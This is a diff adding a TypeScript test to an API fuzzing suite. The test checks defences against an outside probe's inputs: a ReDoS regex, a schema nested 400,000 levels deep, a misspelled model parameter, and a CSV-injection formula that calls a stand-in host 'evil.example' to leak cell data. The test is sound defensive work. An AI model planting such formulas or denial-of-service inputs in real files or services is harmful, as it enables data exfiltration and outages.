@@ -493,6 +493,66 @@ describe('fuzzing every endpoint with malformed and hostile requests', () => {
     300_000,
   );
 
+  it('answers the inputs of the outside probe (issue 30) as their fixes say', async () => {
+    const ask = async (method: Endpoint['method'], path: string, body?: unknown) => {
+      const payload = body === undefined ? {} : { payload: JSON.stringify(body), contentType: 'application/json' };
+      return send(`${method} /api/svc/v1${path.replace(/\?.*/, '')}`, {
+        method,
+        url: `/api/svc/v1${path}`,
+        ...payload,
+      });
+    };
+    const locOf = (res: { json(): any }) => res.json().detail[0].loc.join('.');
+    const tryMetric = (metric: unknown, output: string) => ask('POST', '/eval-metrics/try', { metric, output });
+    const regex = (pattern: string) => ({ name: 'probe', type: 'regex_match', config: { pattern } });
+
+    // A pattern that backtracks exponentially in JavaScript's engine answers at once on RE2.
+    const backtracking = await tryMetric(regex('^(a|a)+$'), `${'a'.repeat(28)}!`);
+    expect(backtracking.statusCode, backtracking.body).toBe(200);
+    expect(backtracking.json().score).toBe(0);
+    const backreference = await tryMetric(regex('(a)\\1'), 'aa');
+    expect(backreference.statusCode).toBe(422);
+    expect(locOf(backreference)).toMatch(/pattern$/);
+    // A recursive schema over 400,000 levels of output: a score with its reason, not a 500.
+    const schema = { $defs: { n: { type: 'array', items: { $ref: '#/$defs/n' } } }, $ref: '#/$defs/n' };
+    const deep = await tryMetric(
+      { name: 'probe', type: 'json_schema', config: { schema } },
+      '['.repeat(4e5) + ']'.repeat(4e5),
+    );
+    expect(deep.statusCode).toBe(200);
+    expect(deep.json()).toMatchObject({ score: 0, reason: expect.stringMatching(/nests deeper/) });
+
+    const wordless = await ask('POST', '/traces', { project_uuid: targets.projectUuid, search: '&' });
+    expect(wordless.statusCode).toBe(422);
+    expect(locOf(wordless)).toBe('body.search');
+
+    // The IPv4-compatible private address is refused where private addresses are (test/security/ssrf): this
+    // stack's fake providers are on 127.0.0.1, so it allows them.
+
+    const prompt = (model_params: Record<string, unknown>) => ({
+      name: `probe-${randomBytes(3).toString('hex')}`,
+      model: 'gpt-4o-mini',
+      provider: 'openai',
+      messages: [{ role: 'user', content: 'hi' }],
+      model_params,
+    });
+    const aliased = await ask('POST', '/prompts', prompt({ temperature: 0.2 }));
+    expect(aliased.statusCode).toBe(200);
+    expect(aliased.json().model_params).toMatchObject({ temp: 0.2 });
+    expect((await ask('POST', '/prompts', prompt({ temprature: 0.2 }))).statusCode).toBe(422);
+
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const dataset = await ask('POST', '/collection', {
+      name: `probe-${randomBytes(3).toString('hex')}`,
+      column_names: ['q'],
+      test_cases: [{ inputs: { q: formula } }],
+    });
+    expect(dataset.statusCode).toBe(200);
+    const csv = (await ask('GET', `/datasets/${dataset.json().id}/export?format=csv`)).body;
+    expect(csv).toContain(`"'=HYPERLINK(`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
+
   it('afterwards: no job failed, every queue drained, the victim’s data and the fuzzer’s earlier data unchanged', async () => {
     const failed = await drainQueues(gw.stack, 120_000);
     expect(failed).toEqual([]);
